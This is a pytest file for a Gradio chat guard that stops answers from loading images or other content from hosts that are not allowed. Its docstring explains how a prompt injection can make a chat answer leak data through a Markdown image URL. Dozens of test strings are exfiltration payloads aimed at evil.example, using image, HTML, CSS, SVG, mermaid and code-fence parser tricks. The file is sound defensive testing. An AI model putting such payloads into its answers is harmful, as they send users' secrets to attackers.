"""guard_chat: an answer shown in Gradio's Chatbot loads no image or other content from a host not allowed.

Gradio renders an answer's Markdown and keeps <img>: after a prompt injection, an answer showing
``![x](https://attacker.example/?q=<data>)`` made the browser send the data as it drew the answer, no click."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from clauseguard.errors import GuardConfigError
from clauseguard.guards import GuardSpec, Pipeline
from tests.gradio_chat import KINDS, fake_request
from tests.gradio_chat import answers as _answers_as
from tests.gradio_chat import returning as _returning

EVIL = "[image from evil.example not shown]"
LOADED = "[content from evil.example not loaded]"


@pytest.fixture
def gr(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("GRADIO_ANALYTICS_ENABLED", "False")
    return pytest.importorskip("gradio", reason="guard_chat needs the [gradio] extra")


def _remote(mode: str = "text", hosts: tuple[str, ...] = ("cdn.example.com",)) -> Any:
    from clauseguard.guards.gradio import _Remote

    return _Remote.of(mode, hosts)


@pytest.mark.parametrize(("text", "shown"), [
    ("See ![chart](https://evil.example/?q=secret) here", f"See {EVIL} here"),
    ("![x](https://evil.example/p.png?q=Jane%20Doe%2C%20jane%40example.org)", EVIL),
    ('![x](<https://evil.example/a b> "title")', EVIL),
    ("![x](https://evil.example/(a)b)", EVIL),
    ("![x](//evil.example/p)", EVIL),
    ("![x](https://cdn.example.com@evil.example/)", EVIL),  # the host is after the @
    ("![a [nested] alt](https://evil.example/)", EVIL),
    ("![ref][r]\n\n[r]: https://evil.example/?q=1", "![ref][r]\n\n[r]\\: https://evil.example/?q=1"),  # text
    ('x <img src="https://evil.example/a?d=1" alt=y> z', f"x {LOADED} z"),
    ("<IMG SRC=&#104;ttps://evil.example/a>", LOADED),  # an entity in the url
    ("<img/src=https://evil.example/a>", LOADED),
    ('<img srcset="https://cdn.example.com/a 1x, https://evil.example/b 2x">', LOADED),
    ("<video poster='//evil.example/p'></video>", f"{LOADED}</video>"),
    ("<audio src=https://evil.example/a></audio>", f"{LOADED}</audio>"),
    ('<div style="background:url(https://evil.example/x)">hi</div>', f"{LOADED}hi</div>"),
    ('<p style="background:\\75rl(https://evil.example/x)">', "[content from another site not loaded]"),
    ("<link rel=stylesheet href=https://evil.example/s.css>", LOADED),
    ("<object data=https://evil.example/o></object>", f"{LOADED}</object>"),
    ("<iframe src=https://cdn.example.com/x></iframe>", "[content from another site not loaded]</iframe>"),
    ("<base href=https://evil.example/>", LOADED),
    ("partial <img src=\"https://evil", "partial &lt;img src=\"https://evil"),  # shown as text
    # nothing sent elsewhere: kept as they are
    ("![c](https://img.cdn.example.com/a.png \"t\")", "![c](https://img.cdn.example.com/a.png \"t\")"),
    ("![x](/gradio_api/file=a.png) ![y](data:image/png;base64,AAA)",
     "![x](/gradio_api/file=a.png) ![y](data:image/png;base64,AAA)"),
    ("<a href='https://evil.example'>a link</a>, <b>bold</b>",
     "<a href='https://evil.example'>a link</a>, <b>bold</b>"),
    ("for (i=0;i<n;i++) a < b", "for (i=0;i<n;i++) a < b"),
    ("[a link](https://evil.example/)", "[a link](https://evil.example/)"),  # followed on a click only
])
def test_remote_content_is_shown_as_text(text: str, shown: str) -> None:
    assert _remote().shown(text) == shown


@pytest.mark.parametrize(("text", "held"), [
    ("Look: ![x](https://evil.example/?q=sec", "Look: "),
    ("Look: <img src=\"https://evil", "Look: "),
    ("Look: <img", "Look: "),
    ("Look: ![x](https://evil.example/?q=secret) and", f"Look: {EVIL} and"),
])
def test_a_stream_holds_back_an_image_not_closed_yet(text: str, held: str) -> None:
    assert _remote().shown(text, final=False) == held


def test_remove_and_keep() -> None:
    text = "A ![x](https://evil.example/?q=1) B"
    assert _remote("remove").shown(text) == "A  B"
    assert _remote("keep").shown(text) == text
    assert _remote(hosts=("example",)).shown(text) == text  # a host's subdomains are allowed with it


@pytest.mark.parametrize(("options", "named"), [
    ({"remote_images": "link"}, "remote_images must be one of"),
    ({"allowed_hosts": "cdn.example.com"}, "allowed_hosts must be a list of host names"),
    ({"allowed_hosts": [""]}, "allowed_hosts must be a list of host names"),
])
def test_bad_options_are_an_error(gr: Any, options: dict[str, Any], named: str) -> None:
    from clauseguard.guards.gradio import guard_chat

    with pytest.raises(GuardConfigError, match=named):
        guard_chat(_returning("ok"), Pipeline([]), **options)


def _pipeline() -> Pipeline:
    return Pipeline([GuardSpec(id="pii", type="pii", stage="output", on_fail="redact", params={"entities": ["email"]}),
                     GuardSpec(id="disclose", type="ai_disclosure", stage="output", on_fail="label",
                               params={"notice": ""})])


def _answers(fn: Any) -> list[Any]:
    return _answers_as(fn, request=fake_request(username="remote"))


ANSWER = 'Done. ![x](https://evil.example/p.png?q=sk_live_51HxQ2) and <img src="https://evil.example/p?d=1">'
SHOWN = f"Done. {EVIL} and {LOADED}\n\n[AI-generated]"


@pytest.mark.parametrize("kind", KINDS)
def test_guard_chat_shows_remote_images_as_text(gr: Any, kind: str) -> None:
    from clauseguard.guards.gradio import guard_chat

    assert _answers(guard_chat(_returning(ANSWER, kind), _pipeline()))[-1] == SHOWN
    (message,) = _answers(guard_chat(_returning([gr.ChatMessage(content=ANSWER)], kind), _pipeline()))[-1]
    assert message.content == SHOWN
    assert _answers(guard_chat(_returning(ANSWER, kind), _pipeline(), remote_images="keep"))[-1] == (
        f"{ANSWER}\n\n[AI-generated]")


@pytest.mark.parametrize("messages", [False, True])
def test_a_streamed_answer_never_shows_an_image_to_another_host(gr: Any, messages: bool) -> None:
    from clauseguard.guards.gradio import guard_chat

    def respond(message: str, history: list[Any]) -> Iterator[Any]:
        text = ""
        for char in ANSWER:
            text += char
            yield gr.ChatMessage(content=text) if messages else text

    shown = [item.content if messages else item for item in _answers(guard_chat(respond, _pipeline()))]
    assert shown[-1] == SHOWN and not any("evil.example/p" in item for item in shown)


def test_a_delta_stream_is_screened_as_a_whole(gr: Any) -> None:
    from clauseguard.guards.gradio import guard_chat

    def respond(message: str, history: list[Any]) -> Iterator[str]:
        yield from ANSWER

    shown = _answers(guard_chat(respond, _pipeline(), stream="delta"))
    assert "".join(shown) == SHOWN and not any("evil.example/p" in item for item in shown)


@pytest.mark.parametrize("text", ["![" * 10_000, "<a " * 10_000, '<a "' * 10_000, "x" * 20_000 + "![" * 10_000,
                                  "<b" + "y" * 70_000, "```\n" * 5_000, "]: " * 10_000,
                                  "```mermaid" * 10_000, "```mermaid" * 10_000 + "img"])
def test_a_long_run_of_openings_costs_little(text: str) -> None:
    """Each streamed item is screened whole: an answer of many unclosed images or tags must not cost seconds."""
    import time

    started = time.perf_counter()
    for final in (True, False):
        _remote().shown(text, final=final)
    assert time.perf_counter() - started < 2


# -- what the reviewer's browser run (Gradio's Chatbot in Chromium) loaded or mangled -------------------


@pytest.mark.parametrize("text", [
    '<svg><rect width="9" height="9" fill="url(https://evil.example/x.svg?q=secret#g)"/></svg>',
    '<svg><rect mask="url(//evil.example/m.svg#m)"/></svg>',
    "<svg><rect clip-path='url(https://evil.example/c.svg#c)'/></svg>",
    '<svg><path marker-start="url(https://evil.example/k.svg#k)" d="M0 0"/></svg>',
    '<svg><rect filter="url(&quot;https://evil.example/f.svg#f&quot;)"/></svg>',
])
def test_an_svg_attributes_url_is_remote_content(text: str) -> None:
    """_tag_urls read url() in a style only: Chromium fetched an SVG fill, mask and clip-path's url()."""
    assert LOADED in _remote().shown(text) and "evil.example/" not in _remote().shown(text)


@pytest.mark.parametrize("text", [
    '<svg><image><set attributeName="href" to="https://evil.example/s.png"/></image></svg>',
    '<div class="mermaid">flowchart TD\n  A@{ img: "https://evil.example/p.png" }</div>',  # drawn by Gradio
    '<svg><rect fill="\\75rl(https://evil.example/x)"/></svg>',  # a CSS escape hides the url()
])
def test_content_that_loads_what_cannot_be_told_is_not_loaded(text: str) -> None:
    assert "[content from another site not loaded]" in _remote().shown(text)


@pytest.mark.parametrize("diagram", [
    'A@{ img: "https://evil.example/p.png?q=secret", label: "x" }',
    'A["<img src=https://evil.example/p.png>"]',
    "A --> B\n  click A href \"https://evil.example/\"",
    "A --> B\n  style A fill:url(https://evil.example/p.svg)",
    '%%{init: {"themeCSS": "x"}}%%\n  A --> B',
])
def test_a_mermaid_diagram_that_could_load_is_shown_as_code(diagram: str) -> None:
    """Gradio's Chatbot draws a ```mermaid block as a diagram, and a node's img: loaded the image: the
    answer returned early (no "![" or "<") or read nothing inside the block."""
    text = f"See:\n\n```mermaid\nflowchart TD\n  {diagram}\n```\n"
    assert _remote().shown(text) == text.replace("```mermaid", "```text")


def test_a_mermaid_diagram_that_loads_nothing_is_kept() -> None:
    text = "```mermaid\nflowchart TD\n  A[Start] --> B{Is it?}\n  style A fill:#f9f\n```"
    assert _remote().shown(text) == text


def test_a_mermaid_diagram_is_read_to_its_latest_possible_end() -> None:
    """Gradio ends a diagram at a "```" and JavaScript's whitespace; Python's \\s is another set: the <img>
    after "```\\x1c" is in the diagram for one reading, so the whole block is shown as code."""
    text = "```mermaid\nA --> B\n```\x1c\n<img src=https://evil.example/a.png>\n```"
    assert _remote().shown(text) == text.replace("```mermaid", "```text")


@pytest.mark.parametrize("text", [
    "Here: ![x`](a.png '`<img src=\"https://evil.example/c.png?q=secret\">')",
    '![x`](a.png "`<img src=https://evil.example/c.png>")',
    '![x](a.png "<img src=https://evil.example/c.png>")',
    "![<img src=https://evil.example/c.png>](a.png)",
    "![`](a.png) <b>`](b.png) <img src=https://evil.example/c.png>",
])
def test_a_code_span_or_tag_in_an_images_alt_or_title_is_read(text: str) -> None:
    """marked reads a code span in an image's alt or title, which ends the image elsewhere, and the <img>
    after it is HTML: the whole harmless-looking image was passed over unread."""
    shown = _remote().shown(text)
    assert LOADED in shown and "evil.example/c" not in shown


@pytest.mark.parametrize("text", [
    "```rust\nlet v = vec![1, 2, 3];\n```",
    "Sure:\n\n```python\nif a<b and b<c:\n    print('sorted')\n```\n\nDone.",
    '```html\n<img src="https://evil.example/logo.png" alt="logo">\n<![CDATA[ x\n```',
    "~~~\n<img src=https://evil.example/a.png>\n~~~",
    "````md\n```\n![x](https://evil.example/a.png)\n```\n````",
    "```\nunclosed <img src=https://evil.example/a.png>",  # a fence not closed runs to the end
    "Use `vec![1, 2]`, or ![not an image] here.",  # a "![" that starts no image
    "Mermaid, as code: ```` ```mermaid ```` and\n\n  ```mermaid\n  A --> B\n  ```",
    "See [the docs](https://evil.example/):\n\n```html\n<img src=https://evil.example/a.png>\n```",
])
def test_code_is_shown_as_the_answer_gave_it(text: str) -> None:
    """Code was screened as Markdown: vec![1] showed vec!\\[1], a<b showed a&lt;b, an HTML example became
    "[content ... not loaded]"."""
    assert _remote().shown(text) == text


@pytest.mark.parametrize("text", [
    "$$\n```\n<img src=https://evil.example/a.png> $$\n```",  # Gradio's LaTeX block reads across the fence
    "a <b>c</b>\n```\ncode\n\n```\n<img src=https://evil.example/a.png>\n```",  # first fence may be HTML
    "<div>\n```\n\n```\n\n```\n<img src=https://evil.example/a.png>\n```",
    "<!--\n\n```\n-->\n<img src=https://evil.example/a.png>\n```",
    "<pre>\n\n```\n</pre>\n<img src=https://evil.example/a.png>\n```",
    "> ```\n<img src=https://evil.example/a.png>\n```",
    "- ```\n<img src=https://evil.example/a.png>\n```",
    "```\ncode\n```\t\n<img src=https://evil.example/a.png>\n```",  # closed for one reader, not another
    "```\ncode\n```~\n<img src=https://evil.example/a.png>\n```",
    # Gradio's mermaid block ends at "B```": the fence after it is code, the <img> after that HTML
    "```mermaid\nA --> B```\n```\n<img src=https://evil.example/code.png>\n```\n<img src=https://evil.example/b.png>",
    "    ```\n<img src=https://evil.example/a.png>\n```",
    '[r]: /x "\n```\n"\n<img src=https://evil.example/a.png>\n```',  # marked: a title over lines
    "[r\n```\n]: /x\n<img src=https://evil.example/a.png>\n```",  # marked: a label over lines
    "[r\\]\n```\n]: /x\n<img src=https://evil.example/a.png>\n```",
    "- item\n  ```\n<img src=https://evil.example/a.png>\n  ```",  # the list item, and its fence, end before
    "```\r\ncode\r\n```\r\n<img src=https://evil.example/a.png>\r\n```",
])
def test_a_code_block_marked_may_read_otherwise_is_screened(text: str) -> None:
    shown = _remote().shown(text)
    assert "evil.example/a" not in shown and "evil.example/b" not in shown


@pytest.mark.parametrize(("text", "shown"), [
    ("![a [b [c]]](https://evil.example/)", "!\\[a [b [c]]](https://evil.example/)"),  # too deep to read
    ("vec![1] then [a](b)", "vec!\\[1] then [a](b)"),  # a "](" after it: maybe an image
    ("vec![1]\n\nthen [a](b)", "vec![1]\n\nthen [a](b)"),  # not in its paragraph
    ("![x][r] ![r]\n\n[r]: https://evil.example/?q=1", "![x][r] ![r]\n\n[r]\\: https://evil.example/?q=1"),
    ("![x][r]\n\n[r]:\n  <https://evil.example/>", "![x][r]\n\n[r]\\:\n  <https://evil.example/>"),
    ("![x][r]\n\n[r]: https://cdn.example.com/a.png", "![x][r]\n\n[r]: https://cdn.example.com/a.png"),
    ("a dict {'k': 1} and list[0]: ok", "a dict {'k': 1} and list[0]: ok"),
])
def test_a_bang_bracket_is_kept_unless_it_may_load(text: str, shown: str) -> None:
    """Every "![" that was no inline image was shown as "!\\[" (vec![1] in code): a reference definition to
    a host not allowed is now shown as text instead, so a reference image can load nothing from there."""
    assert _remote().shown(text) == shown


@pytest.mark.parametrize(("text", "held"), [
    ("Sure:\n\n```python\nif a<b and b<c:\n    print('sor", "Sure:\n\n```python\nif a<b and b<c:\n    print('sor"),
    ("if a<b and b<c:\n\nThis checks", "if a&lt;b and b&lt;c:\n\nThis checks"),  # the paragraph ended
    ("x <b" + "y" * 70_000, "x &lt;b" + "y" * 70_000),  # longer than a tag is read
    ("x <img src=\"https://evil", "x "),  # could still close
    ("![x][r]\n\n[r]: https://cdn.example.com", "![x][r]\n\n[r"),  # its destination may still grow
])
def test_a_stream_holds_back_only_what_could_still_close(text: str, held: str) -> None:
    """An unclosed "<b" (a<b in code) held back everything after it until the stream ended."""
    assert _remote().shown(text, final=False) == held


def test_a_delta_stream_of_code_and_brackets_goes_on() -> None:
    """A "!", "]" or "<" at the end of what a stream had shown became "![", "]:" or "<b" held back, so the
    screened text no longer began with what was shown: a delta stream of `vec![1]` or `a<b` was stopped."""
    from clauseguard.guards.gradio import _Screen

    answer = ("Sure:\n\n```rust\nlet v = vec![1];\n```\n\nUse `vec![1, 2]` or `a<b and c` here.\n\n"
              "![x](https://evil.example/p.png?q=s)\n\n[r]: https://evil.example/\n\nend")
    screen = _Screen(_remote(), "delta")
    shown = [out for char in answer for out in screen.item(char)] + screen.end()
    assert not screen.stopped and "".join(shown) == _remote().shown(answer)
    assert not any("evil.example/p" in item for item in shown)
